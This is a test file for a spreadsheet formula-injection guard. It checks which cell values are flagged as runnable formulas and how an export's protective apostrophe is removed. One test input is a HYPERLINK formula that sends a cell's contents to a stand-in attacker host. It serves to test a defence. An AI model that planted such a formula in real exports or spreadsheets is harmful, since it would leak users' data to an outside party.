import { describe, expect, it } from "vitest";
import { FORMULA_CELL, isFormulaCell, withoutFormulaGuard } from "../../../src/core/formula-cells.ts";

describe("isFormulaCell", () => {
  it("flags cells a spreadsheet would run: =, +, @, tab, carriage return and - before anything but a number", () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+33",
      "@SUM(A1)",
      "\tx",
      "\rx",
      "-Clash",
      "-1+2",
      "-",
    ]) {
      expect(isFormulaCell(cell), cell).toBe(true);
      expect(FORMULA_CELL.test(cell), cell).toBe(true);
    }
  });

  it("leaves plain text, quotes and plain negative numbers alone", () => {
    for (const cell of ["Assault on the prison", "هجوم", "'Ayn Issa'", "-36.5", "-12", "-.5", "", " =x"]) {
      expect(isFormulaCell(cell), cell).toBe(false);
      expect(FORMULA_CELL.test(cell), cell).toBe(false);
    }
  });
});

describe("withoutFormulaGuard", () => {
  it("drops the export's ' before a formula-like cell and keeps every other '", () => {
    expect(withoutFormulaGuard("'=1+1")).toBe("=1+1");
    expect(withoutFormulaGuard("'-Clash")).toBe("-Clash");
    expect(withoutFormulaGuard("'Ayn Issa'")).toBe("'Ayn Issa'");
    expect(withoutFormulaGuard("'-36.5")).toBe("'-36.5");
  });
});
